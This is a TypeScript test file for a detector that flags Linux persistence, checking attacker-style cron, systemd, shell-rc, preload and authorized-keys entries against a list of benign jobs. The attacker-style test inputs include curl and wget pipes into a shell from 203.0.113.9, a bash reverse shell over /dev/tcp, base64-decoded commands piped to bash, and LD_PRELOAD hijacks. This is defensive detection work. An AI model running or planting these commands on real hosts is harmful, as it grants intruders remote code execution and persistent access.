/** What brings an intruder back, beside a table of the jobs that honest hosts have. */

import { describe, expect, it } from 'vitest';
import type { Event, PersistencePlace, PersistenceSeen } from '../../src/core/words.ts';
import { persistenceAdded } from '../../src/detectors/persistence-added.ts';
import { accepted, accountSeen, DAY, HOUR, hear, START, tries } from './hearing.ts';

function seen(place: PersistencePlace, command: string, fields: Partial<PersistenceSeen> = {}): Event {
  const path = { cron: '/var/spool/cron/crontabs/bob', preload: '/etc/ld.so.preload' }[place as string] ?? `/etc/${place}`;
  return {
    kind: 'persistence.seen',
    at: START,
    source: 'persistence',
    fields: { place, path, line: 3, account: 'bob', command, changedAt: START, ...fields },
  };
}

const bob = accountSeen({ name: 'bob' });
const one = (event: Event) => hear(persistenceAdded, [bob, event])[0];

const guilty: readonly (readonly [PersistencePlace, string, string, string | null])[] = [
  ['cron', '/var/tmp/.sys/run >/dev/null 2>&1', 'high', '/var/tmp/.sys/run'],
  ['cron', 'cd /tmp/.x && ./y.sh', 'high', '/tmp/.x/y.sh'],
  ['cron', "sh -c 'cd /dev/shm/...; nohup ./k &'", 'high', '/dev/shm/.../k'],
  ['cron', 'cd /var/tmp/a; perl bot.pl', 'high', '/var/tmp/a/bot.pl'],
  ['cron', 'flock -n /var/lock/q /home/bob/.hid/miner -o pool', 'medium', '/home/bob/.hid/miner'],
  ['cron', '~/.hid/up', 'medium', '/home/bob/.hid/up'],
  ['cron', '/bin/sh /usr/lib/../../tmp/a', 'high', '/tmp/a'],
  ['cron', "[ -x /usr/bin/true ] && timeout 5 bash '/tmp/.. /a b'", 'high', '/tmp/.. /a b'],
  ['cron', 'curl -fsSL http://203.0.113.9/i | sh', 'medium', null],
  ['cron', 'wget -qO- http://203.0.113.9/i | tee /srv/l | sudo /bin/bash -s', 'medium', null],
  ['cron', 'curl http://203.0.113.9/i | python3 -', 'medium', null],
  ['cron', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'high', null],
  ['cron', 'echo aWQK | base64 -d | bash', 'high', null],
  ['cron', 'bash -c "$(wget -qO- http://203.0.113.9/i)"', 'medium', null],
  ['unit', '/dev/shm/worker --quiet', 'high', '/dev/shm/worker'],
  ['timer', '/tmp/w', 'high', '/tmp/w'],
  ['at', 'cd /tmp; ./w', 'high', '/tmp/w'],
  ['shell-rc', '(/var/tmp/a &)', 'high', '/var/tmp/a'],
  ['shell-rc', 'export LD_PRELOAD=/tmp/h.so', 'high', '/tmp/h.so'],
  ['authorized-keys', 'command="/tmp/.a/run",no-pty ssh-ed25519 SHA256:abc x', 'high', '/tmp/.a/run'],
  ['preload', '/lib/x.so', 'medium', '/lib/x.so'],
  ['preload', '/dev/shm/x.so', 'high', '/dev/shm/x.so'],
  ['init-script', '/tmp/.ICE/x start', 'high', '/tmp/.ICE/x'],
];

const honest: readonly (readonly [PersistencePlace, string])[] = [
  ['cron', '/usr/local/bin/backup.sh > /tmp/backup.log 2>&1'],
  ['cron', 'find /tmp -mtime +3 -delete'],
  ['cron', 'rm -rf /var/tmp/cache/.old; /usr/bin/rsync -a /srv/ /mnt/b >>/var/tmp/.log'],
  ['cron', '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi'],
  ['cron', 'cd / && run-parts --report /etc/cron.hourly'],
  ['cron', 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'],
  ['cron', 'flock -n /tmp/feed.lock /usr/bin/php /var/www/shop/cron.php'],
  ['cron', '"/home/bob/.acme.sh"/acme.sh --cron --home "/home/bob/.acme.sh" > /dev/null'],
  ['cron', '/srv/app/.venv/bin/python /srv/app/manage.py clearsessions'],
  ['cron', '. $HOME/.profile; /home/bob/bin/report'],
  ['cron', 'curl -fsS https://hc.example.org/ping/1 > /dev/null'],
  ['cron', 'curl -s https://example.org/list | grep -c sh'],
  ['cron', 'curl -s https://example.org/a.json | python3 -m json.tool > /srv/a'],
  ['cron', "wget -qO- https://example.org/list | perl -ne 'print if /x/'"],
  ['cron', 'curl -s https://example.org/a | sh-report'],
  ['cron', 'mysqldump shop | base64 > /srv/dump'],
  ['unit', '/opt/app/bin/server --pid /run/app.pid --tmp /tmp/app'],
  ['unit', '/home/bob/.local/bin/syncthing serve'],
  ['shell-rc', '. ~/.bash_aliases'],
  ['shell-rc', 'source ~/.oh-my-zsh/oh-my-zsh.sh'],
  ['authorized-keys', 'ssh-ed25519 SHA256:abc anna@laptop'],
  ['authorized-keys', 'command="/usr/bin/rrsync -ro /srv" ssh-ed25519 SHA256:abc backup'],
];

describe('persistence-added', () => {
  it.each(guilty)('%s: %s is %s', (place, command, severity, path) => {
    const finding = one(seen(place, command));
    expect(finding?.severity).toBe(severity);
    const run = path === null ? [] : [{ is: 'file', path }];
    expect(finding?.culprit.slice(0, run.length)).toEqual(run);
    expect(finding?.culprit).toContainEqual({ is: 'file', path: finding?.evidence[0]?.path });
  });

  it.each(honest)('%s: %s is no finding', (place, command) => expect(one(seen(place, command))).toBeUndefined());

  it('takes what runs every minute for worse', () => {
    expect(one(seen('cron', '/home/bob/.hid/up', { schedule: '17 3 * * *' }))?.severity).toBe('medium');
    expect(one(seen('cron', '/home/bob/.hid/up', { schedule: '* * * * *' }))?.severity).toBe('high');
    expect(one(seen('cron', '/home/bob/.hid/up', { schedule: '@reboot' }))?.figures).toEqual({ place: 'cron', schedule: '@reboot' });
  });

  it('names the technique, the line and the folder, but never /tmp itself', () => {
    const finding = one(seen('cron', '/tmp/.x/y', { schedule: '@reboot' }));
    expect(finding).toMatchObject({ attack: ['T1053.003'], evidence: [{ path: '/var/spool/cron/crontabs/bob', line: 3, says: '/tmp/.x/y' }] });
    expect(finding?.culprit).toContainEqual({ is: 'directory', path: '/tmp/.x' });
    expect(one(seen('cron', '/tmp/y'))?.culprit.some((entity) => entity.is === 'directory')).toBe(false);
  });

  it('judges setuid programs by their place, and preloads by who brought them', () => {
    expect(one(seen('setuid', 'x', { path: '/tmp/.b/sh' }))).toMatchObject({ severity: 'high', attack: ['T1548.001'] });
    expect(one(seen('setuid', 'x', { path: '/usr/local/bin/thing' }))).toBeUndefined();
    expect(one(seen('preload', '/usr/lib/x.so', { package: null }))?.severity).toBe('high');
    expect(one(seen('preload', '/usr/lib/x.so', { package: 'libx' }))).toBeUndefined();
  });

  it('tells of a key that came after somebody who had guessed', () => {
    const entry = [
      ...tries(6, 1000, { at: START, account: 'bob', ip: '198.51.100.7' }),
      accepted({ at: START + HOUR, account: 'bob', ip: '198.51.100.7' }),
    ];
    const key = (changedAt: number, account = 'bob') => seen('authorized-keys', 'ssh-ed25519 SHA256:abc x', { changedAt, account });
    expect(hear(persistenceAdded, [...entry, key(START + 2 * HOUR)])[0]).toMatchObject({ severity: 'medium', attack: ['T1098.004'] });
    expect(hear(persistenceAdded, [...entry, key(START)])).toEqual([]);
    expect(hear(persistenceAdded, [...entry, key(START + DAY, 'anna')])).toEqual([]);
    expect(hear(persistenceAdded, [...entry.slice(2), key(START + 2 * HOUR)])).toEqual([]);
  });
});
